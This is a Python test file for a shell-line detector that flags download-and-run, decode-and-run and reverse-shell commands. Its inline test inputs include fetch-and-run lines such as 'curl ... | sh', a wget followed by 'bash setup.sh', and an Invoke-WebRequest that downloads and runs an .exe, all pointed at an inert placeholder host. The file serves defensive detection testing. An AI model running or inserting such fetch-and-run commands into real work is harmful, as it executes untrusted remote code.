"""Command lines that fetch and run, decode and run, or give a shell away; and their honest neighbours."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders import scripts
from tests.effort import is_quick
from weighbridge.formats.text.shell_lines import script, tells


def kinds(text: str) -> set[str]:
    return {kind for kind, _, _ in script(text)}


@pytest.mark.parametrize("line", scripts.FETCH_AND_RUN)
def test_what_fetches_and_runs(line: str) -> None:
    assert kinds(line) == {"download_and_run"}


@pytest.mark.parametrize("line", scripts.DECODE_AND_RUN)
def test_what_decodes_and_runs(line: str) -> None:
    assert "decode_and_run" in kinds(line)


@pytest.mark.parametrize("line", scripts.REVERSE_SHELL)
def test_what_gives_a_shell_away(line: str) -> None:
    assert "reverse_shell" in kinds(line)


@pytest.mark.parametrize("line", scripts.HONEST)
def test_honest_lines_say_nothing(line: str) -> None:
    assert kinds(line) == set()


def test_a_file_fetched_here_and_run_there() -> None:
    assert [number for _, _, number in script("wget http://inert.invalid/d/setup.sh\necho x\nbash setup.sh\n")] == [3]
    assert kinds("wget http://inert.invalid/d/setup.sh\nbash other.sh\n") == set()
    assert kinds("curl http://inert.invalid/a.json -o a.json\npython read.py a.json\n") == set()
    assert kinds("Invoke-WebRequest http://inert.invalid/a.exe -OutFile a.exe\n.\\a.exe\n") == {"download_and_run"}


def test_lines_that_go_on_are_one_and_comments_are_none() -> None:
    assert kinds("curl http://inert.invalid/a \\\n  | sh\n") == {"download_and_run"}
    assert kinds("# curl http://inert.invalid/a | sh\nrem curl http://inert.invalid/a | sh\n") == set()


@pytest.mark.parametrize(
    "line",
    ["curl " * 100_000, "nc -" * 100_000, "|sh" * 100_000, "sudo -" * 100_000, "curl a;" * 50_000, "$(" * 100_000],
)
def test_time_is_linear(line: str) -> None:
    begun = time.process_time()
    list(script(f"{line}\n" + f"{line[:8000]}\n" * 100))
    assert is_quick(time.process_time() - begun, 5)


@given(st.text(alphabet="curlwgetsh|;&-<>()$`\"' \n\\./:ob6d", max_size=200))
def test_any_text_is_read(text: str) -> None:
    for kind, line, number in script(text):
        assert kind in {"download_and_run", "decode_and_run", "reverse_shell"}
        assert line
        assert number >= 1
    tells(text)
